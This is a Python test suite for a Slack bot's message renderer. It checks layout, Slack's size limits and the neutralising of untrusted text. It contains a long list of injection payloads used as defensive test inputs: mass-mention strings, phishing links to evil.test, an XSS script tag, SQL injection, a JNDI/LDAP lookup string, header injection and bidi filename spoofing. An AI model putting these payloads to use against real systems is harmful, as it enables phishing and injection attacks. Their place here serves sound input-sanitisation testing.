"""Replies become messages that Slack takes, that say everything, and in which nothing from outside comes alive."""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.slack.escape import escape, shorten
from bot.slack.render import Message, render
from bot.split import pieces
from bot.text import clean, is_web_address
from commands.reply import Button, Field, Item, Reply

patient = settings(deadline=None)


def ids(reply: Reply) -> list[str]:
    return [f"id-{number}" for number, _ in enumerate(reply.pressed)]


def rendered(reply: Reply) -> list[Message]:
    return render(reply, ids(reply))


def elements(value: Any) -> Iterator[Mapping[str, Any]]:
    """Every object that has a type, however deep."""
    if isinstance(value, Mapping):
        if "type" in value:
            yield value
        for each in value.values():
            yield from elements(each)
    elif isinstance(value, Sequence) and not isinstance(value, str):
        for each in value:
            yield from elements(each)


def shown(messages: Sequence[Message]) -> list[Mapping[str, Any]]:
    return [element for message in messages for element in elements(message.blocks)]


def read(messages: Sequence[Message]) -> str:
    return "".join(map(word, shown(messages)))


def word(element: Mapping[str, Any]) -> str:
    """What an element shows by itself: a numbered list of one, its number."""
    if element["type"] == "rich_text_list" and element["style"] == "ordered":
        return f"{element.get('offset', 0) + 1}. "
    return str(element["text"]) if element["type"] in ("text", "link") else ""


def buttons(messages: Sequence[Message]) -> list[Mapping[str, Any]]:
    return [element for element in shown(messages) if element["type"] == "button"]


# What a reply looks like


def test_a_plain_reply_is_one_paragraph_and_its_own_fallback() -> None:
    assert rendered(Reply("3 meetings on Monday")) == [
        Message(
            "3 meetings on Monday",
            [
                {
                    "type": "rich_text",
                    "elements": [
                        {"type": "rich_text_section", "elements": [{"type": "text", "text": "3 meetings on Monday"}]},
                    ],
                }
            ],
        )
    ]


def test_items_make_one_list_with_bold_titles_that_lead_where_they_should() -> None:
    reply = Reply("Found", items=(Item("Roadmap", "edited today", "https://notion.so/1"), Item("Plan"), Item("", "just so")))
    [message] = rendered(reply)
    assert message.blocks[1]["elements"] == [
        {
            "type": "rich_text_list",
            "style": "bullet",
            "elements": [
                {
                    "type": "rich_text_section",
                    "elements": [
                        {"type": "link", "url": "https://notion.so/1", "text": "Roadmap", "style": {"bold": True}},
                        {"type": "text", "text": " — edited today"},
                    ],
                },
                {"type": "rich_text_section", "elements": [{"type": "text", "text": "Plan", "style": {"bold": True}}]},
                {"type": "rich_text_section", "elements": [{"type": "text", "text": "just so"}]},
            ],
        }
    ]
    assert message.text == "Found\nRoadmap — edited today\nPlan\njust so"


def test_fields_stand_under_each_other_by_bold_names() -> None:
    [message] = rendered(Reply("Deal", fields=(Field("Stage", "won"), Field("Amount", "5 €"))))
    assert message.text == "Deal\nStage: won\nAmount: 5 €"
    bold = [element["text"] for element in shown([message]) if element.get("style") == {"bold": True}]
    assert bold == ["Stage: ", "\nAmount: "]


def test_an_items_buttons_follow_it_and_the_replys_come_last() -> None:
    items = (Item("a", buttons=(Button("Join", url="https://meet.test/a"), Button("Cancel", "calendar cancel"))), Item("b"))
    reply = Reply(
        "Two", items=items, buttons=(Button("More", "calendar more", style="primary"), Button("Odd", "x", style="odd"))
    )
    [message] = rendered(reply)
    assert [block["type"] for block in message.blocks] == ["rich_text", "rich_text", "actions", "rich_text", "actions"]
    join, cancel, more, odd = buttons([message])
    assert (join["url"], join["action_id"], "value" in join) == ("https://meet.test/a", "open:0", False)
    assert (cancel["value"], cancel["action_id"], "url" in cancel) == ("id-0", "press:1", False)
    assert (more["value"], more["action_id"], more["style"]) == ("id-1", "press:2", "primary")
    assert "style" not in odd


def test_ids_are_given_in_the_order_of_the_pressed_buttons() -> None:
    items = tuple(Item(str(n), buttons=tuple(Button(f"{n}.{m}", "x y") for m in range(n))) for n in range(4))
    reply = Reply("x", items=items, buttons=(Button("last", "x y"),))
    given = [button.label for button in reply.pressed]
    drawn = buttons(render(reply, given))
    assert [button["value"] for button in drawn] == given == [button["text"]["text"] for button in drawn]


def test_every_button_needs_its_id_and_no_more() -> None:
    reply = Reply("x", buttons=(Button("a", "b"), Button("c", url="https://d.test")))
    for wrong in ([], ["1", "2"]):
        with pytest.raises(ValueError):
            render(reply, wrong)


def test_a_button_that_leads_nowhere_is_left_out() -> None:
    [message] = rendered(Reply("x", buttons=(Button("a"), Button("b", url="javascript:alert(1)"))))
    assert buttons([message]) == []


def test_the_replys_image_is_shown_with_a_text_instead_and_no_other() -> None:
    [message] = rendered(Reply("A cat <3", image="https://cdn.test/cat.png"))
    assert message.blocks[1] == {"type": "image", "image_url": "https://cdn.test/cat.png", "alt_text": "A cat &lt;3"}
    for url in ("", "http://", "data:image/png;base64,AA", "file:///etc/passwd", "cdn.test/cat.png"):
        assert "image" not in {element["type"] for element in shown(rendered(Reply("x", image=url)))}


def test_an_empty_reply_still_is_a_message() -> None:
    assert rendered(Reply("")) == [Message("…", [])]
    [message] = rendered(Reply("", buttons=(Button("", "x"),)))
    assert (message.text, buttons([message])[0]["text"]["text"]) == ("…", "…")


# Limits, and nothing lost: https://docs.slack.dev/reference/block-kit


def is_within_limits(messages: Sequence[Message]) -> bool:
    for message in messages:
        assert 0 < len(message.text) <= 4_000
        assert len(message.blocks) <= 50
        assert len(json.dumps(message.blocks, ensure_ascii=False)) < 13_000, "Slack refuses some 13,200 characters of blocks"
        for element in elements(message.blocks):
            match element["type"]:
                case "text" | "link":
                    assert 0 < len(element["text"]) <= 3_000
                    assert len(element.get("url", "")) <= 3_000
                case "button":
                    assert 0 < len(element["text"]["text"]) <= 75
                    assert len(element["action_id"]) <= 255
                    assert len(element.get("value", "")) <= 2_000
                    assert len(element.get("url", "")) <= 3_000
                case "actions":
                    assert 0 < len(element["elements"]) <= 25
                case "image":
                    assert 0 < len(element["alt_text"]) <= 2_000
                    assert len(element["image_url"]) <= 3_000
                case "rich_text" | "rich_text_list" | "rich_text_section" | "rich_text_preformatted" | "rich_text_quote":
                    assert element["elements"]
                case "plain_text":
                    assert "emoji" in element
                case other:
                    raise AssertionError(f"{other} is nothing that we draw")
    numbers = [button["action_id"] for button in buttons(messages)]
    assert len(numbers) == len(set(numbers))
    return True


TEXT = st.text(max_size=60) | st.builds(lambda text, times: text * times, st.text(min_size=1, max_size=20), st.integers(1, 300))
URL = st.sampled_from(
    ["", "https://a.test/x?y=1&z=<2>", "https://a.test/x?y=1&z=2", "javascript:1", "https://a.test/" + "x" * 2980]
)
BUTTON = st.builds(
    Button, label=TEXT, command=st.sampled_from(["", "a b"]), url=URL, style=st.sampled_from(["", "danger", "x"])
)
FEW = st.lists(BUTTON, max_size=4).map(tuple)
ITEM = st.builds(Item, title=TEXT, detail=TEXT, url=URL, buttons=FEW)
REPLY = st.builds(
    Reply,
    text=TEXT,
    items=st.lists(ITEM, max_size=6).map(tuple),
    fields=st.lists(st.builds(Field, name=TEXT, value=TEXT), max_size=12).map(tuple),
    buttons=FEW | st.lists(BUTTON, min_size=26, max_size=30).map(tuple),
    image=URL,
)


@settings(deadline=None, max_examples=60)
@given(REPLY)
def test_whatever_is_said_fits_and_nothing_of_it_is_lost(reply: Reply) -> None:
    messages = rendered(reply)
    assert is_within_limits(messages)
    told = read(messages)
    assert told.startswith(clean(reply.text))
    for text in [text for item in reply.items for text in (item.title, item.detail)]:
        assert clean(text) in told
    for field in reply.fields:
        assert clean(f"{field.name}: {field.value}") in told


@pytest.mark.parametrize(
    "sign", ["x", "&", "<", "é", "水", "😀", "\n", "\t", "\x00", "e\u0301", "👨‍👩‍👧", "word ", "line of words\n"]
)
def test_five_texts_of_eight_thousand_signs_of_any_kind_arrive(sign: str) -> None:
    text = sign * (8_000 // len(sign))
    messages = rendered(Reply(text, items=(Item(text, text, "https://a.test"),), fields=(Field(text, text),)))
    assert is_within_limits(messages)
    assert read(messages) == clean(text) + clean(text) + ": " + clean(text) + clean(text) + " — " + clean(text)


def test_one_text_of_forty_thousand_signs_arrives() -> None:
    text = ("line of words\n" * 3_000)[:40_000]
    messages = rendered(Reply(text))
    assert is_within_limits(messages)
    assert read(messages) == text


def test_a_thousand_items_with_buttons_are_spread_over_messages() -> None:
    reply = Reply("Many", items=tuple(Item(f"item {n}", buttons=(Button("Go", "x y"),)) for n in range(1000)))
    messages = rendered(reply)
    assert is_within_limits(messages)
    assert len(buttons(messages)) == 1000


def test_buttons_stand_twenty_five_to_a_row() -> None:
    [message] = rendered(Reply("x", buttons=(Button("x", "y"),) * 60))
    assert [len(block["elements"]) for block in message.blocks[1:]] == [25, 25, 10]


def test_text_is_cut_where_a_reader_would_cut_it() -> None:
    assert list(pieces("one two three", 9)) == ["one two ", "three"]
    assert list(pieces("line one\nline two\n", 12)) == ["line one\n", "line two\n"]
    assert list(pieces("e\u0301" * 3, 3)) == ["e\u0301", "e\u0301", "e\u0301"]
    assert list(pieces("👩‍💻👍🏽", 4)) == ["👩‍💻", "👍🏽"]
    assert list(pieces("\u0301" * 5, 2)) == ["\u0301" * 2, "\u0301" * 2, "\u0301"]


@patient
@given(st.text(max_size=300), st.integers(1, 40))
def test_pieces_put_together_are_the_text(text: str, most: int) -> None:
    cut = list(pieces(text, most))
    assert "".join(cut) == text
    assert all(0 < len(piece) <= most for piece in cut)


@patient
@given(st.text(alphabet="&<>a ", max_size=100), st.integers(6, 40))
def test_what_is_shortened_holds_no_broken_escape(text: str, most: int) -> None:
    short = shorten(text, most)
    assert 0 < len(short) <= most
    assert is_inert(short)


# Nothing comes alive

PAYLOADS = (
    # mentions
    *(
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<!channel|channel>",
        "<!here|here>",
        "<!subteam^S012AB3CD>",
        "<!subteam^S0|@ops>",
    ),
    *("<@U012AB3CD>", "<@U0|ada>", "<@W012AB3CD>", "<#C012AB3CD>", "<#C0|general>", "@channel", "@here", "@everyone", "@ada"),
    *("#general", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "<<!channel>>", "<!channel", "!channel>", "< !channel>"),
    *(
        "<!\u200bchannel>",
        "<\u2060!channel>",
        "＜!channel＞",
        "<!chan\0nel>",
        "<!CHANNEL>",
        "<!date^1^{date}^https://evil.test|x>",
    ),
    *(
        "&#60;!channel&#62;",
        "&#x3c;!channel&#x3e;",
        "%3C!channel%3E",
        "\\u003c!channel\\u003e",
        "<!channel>\u202e",
        "\ud83c<!here>",
    ),
    # links, in every spelling
    *(
        "<https://evil.test|click>",
        "<https://evil.test>",
        "<http://evil.test?q=secret|https://good.test>",
        "<mailto:a@evil.test|x>",
    ),
    *(
        "https://evil.test",
        "HTTPS://EVIL.TEST/?q=1",
        "http://127.0.0.1:22",
        "ftp://evil.test",
        "www.evil.test",
        "//evil.test/x",
    ),
    *(
        "[click](https://evil.test)",
        "[click][1]\n\n[1]: https://evil.test",
        "![x](https://evil.test/p.png?q=secret)",
        "slack://open",
    ),
    *(
        "<a href='https://evil.test'>x</a>",
        "<img src=https://evil.test/x.png>",
        "javascript:alert(1)",
        "data:text/html,<script>",
    ),
    *(
        "https://evil。test/x",
        "https://еvil.test",
        "https://evil.test\u200b/x",
        "hxxps://evil.test",
        "https:\\\\evil.test",
        "evil.test",
    ),
    *(
        "https://good.test@evil.test",
        "https://evil.test%2f@good.test",
        "file:///etc/passwd",
        "tel:+1234",
        "<tel:+1|call>",
        "file:x",
    ),
    *(
        "intent://evil.test#Intent;end",
        "vscode://x",
        "https://evil.test/?a=1&b=2#c",
        "(https://evil.test)",
        "“https://evil.test”",
    ),
    *(
        "mailto:a@evil.test",
        "<sip:x|y>",
        "see:https://evil.test",
        "x" * 3000 + "https://evil.test",
        "https://" + "e" * 5000 + ".test",
    ),
    # decoration
    *(
        "*bold*",
        "_italic_",
        "~struck~",
        "`code`",
        "```block```",
        "> quote",
        ">>> quotes",
        "• item",
        "1. item",
        "- item",
        "# title",
    ),
    *(
        "2*3*4 = 24",
        "snake_case_name",
        "~100 or ~200",
        "a `b",
        "```",
        "***",
        "___",
        ":tada:",
        ":smile::smile:",
        ":+1:",
        "\\*x\\*",
    ),
    *(
        "| a | b |\n|---|---|",
        "---",
        "$x^2$",
        "{{7*7}}",
        "{date}",
        "%s %(x)s {0}",
        "${jndi:ldap://evil.test}",
        "#{1}",
        "<%= 1 %>",
    ),
    # other tongues
    *(
        "'; DROP TABLE users; --",
        "<script>alert(1)</script>",
        '"><svg onload=alert(1)>',
        "&",
        "&&&",
        "<",
        ">",
        "<>",
        "&lt",
        "&amp",
    ),
    *('{"type":"mrkdwn","text":"<!channel>"}', "=HYPERLINK(1)", "\x1b[31mred", "\r\nSet-Cookie: x", "\x07", "\x85", "a\u2028b"),
    *(
        "\u202egpj.exe",
        "\u2066x\u2069",
        "\ufeffx",
        "\ud800",
        "\udfff\ud800",
        "\x00",
        "Z͑ͫ̓ͪ̂a̶l̷g̸o̵" * 50,
        "👩‍👩‍👧‍👦",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "\u200f\u061cאב",
    ),
)
ADDRESS = re.compile(r"(?:https?|ftp|file|slack|intent|vscode|ldap|hxxps)://|\bwww\.|mailto:", re.IGNORECASE)
GOOD = "https://good.test/page?a=1&b=2"


def everywhere(text: str) -> Reply:
    everything = (Button(text, "a b"), Button(text, url=GOOD), Button("x", url=text))
    items = (Item(text, text, GOOD, everything), Item(text, text, text), Item(text))
    return Reply(text, items, (Field(text, text),), everything, image=text)


def is_inert(text: str) -> bool:
    """In text that Slack looks through, there is nothing for it to find."""
    return not re.search(r"[<>]|&(?!(?:amp|lt|gt);)", text)


def test_there_are_more_than_a_hundred_and_twenty_payloads() -> None:
    assert len(set(PAYLOADS)) > 120


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: ascii(text)[:30])
def test_no_text_from_outside_comes_alive(payload: str) -> None:
    reply = everywhere(payload)
    messages = rendered(reply)
    assert is_within_limits(messages)
    for message in messages:
        assert is_inert(message.text)
    for element in shown(messages):
        match element["type"]:
            case "plain_text":
                assert is_inert(element["text"])
            case "text":
                assert not ADDRESS.search(element["text"]) or element["style"]["code"]
            case "link":
                assert element["url"] in (GOOD, payload)
                assert element["url"] == GOOD or is_web_address(payload)
            case "button" if "url" in element:
                assert element["url"] == GOOD or is_web_address(payload)
    assert read(messages).count(clean(payload)) >= 8, "and it can be read as it was written"


def test_addresses_in_a_text_are_code_and_the_rest_is_not() -> None:
    [message] = rendered(Reply("See https://evil.test/?q=1, ok"))
    runs = message.blocks[0]["elements"][0]["elements"]
    assert runs == [
        {"type": "text", "text": "See "},
        {"type": "text", "text": "https://evil.test/?q=1,", "style": {"code": True}},
        {"type": "text", "text": " ok"},
    ]


@pytest.mark.parametrize(
    "url",
    [
        "http://a.test",
        "https://a.test/é?x=[1]&y={2}|3#z",
        "https://a.test:8443/",
        "https://[::1]/x",
        "https://müller.test/",
        GOOD,
    ],
)
def test_web_addresses_are_let_through(url: str) -> None:
    assert is_web_address(url)


@pytest.mark.parametrize(
    "url",
    [
        *("", "a.test", "//a.test", "https://", "https:///x", "https:a.test", "ftp://a.test", "javascript:alert(1)", "data:,x"),
        *(
            "https://a.test@evil.test/",
            "https://a:b@evil.test/",
            "https://a.test\\@evil.test/",
            "https://a.test/ x",
            " https://a.test",
        ),
        *(
            "https://a.test/\n",
            "https://a.test/\x00",
            "https://a.test/<!channel>",
            'https://a.test/"x',
            "https://a.test/\u202ex",
        ),
        *(
            "https://[::1/",
            "https://a.test:port/",
            "https://a.test:99999/",
            "https://a.test/\ud800",
            "https://a.test/" + "x" * 3000,
        ),
    ],
)
def test_nothing_else_is_a_web_address(url: str) -> None:
    assert not is_web_address(url)


def test_cleaning_shows_what_can_not_be_shown_and_keeps_the_rest() -> None:
    assert clean("a\r\nb\rc\x85d\u2028e") == "a\nb\nc\nd\ne"
    assert clean("a\x00\x1b\x7f\ud800b") == "a\ufffd\ufffd\ufffd\ufffdb"
    assert clean("\u202egpj.exe\u202c \u2066x\u2069") == "gpj.exe x"
    assert clean("שלום 👩‍💻 é\t水") == "שלום 👩‍💻 é\t水"
    assert escape("<&>") == "&lt;&amp;&gt;"
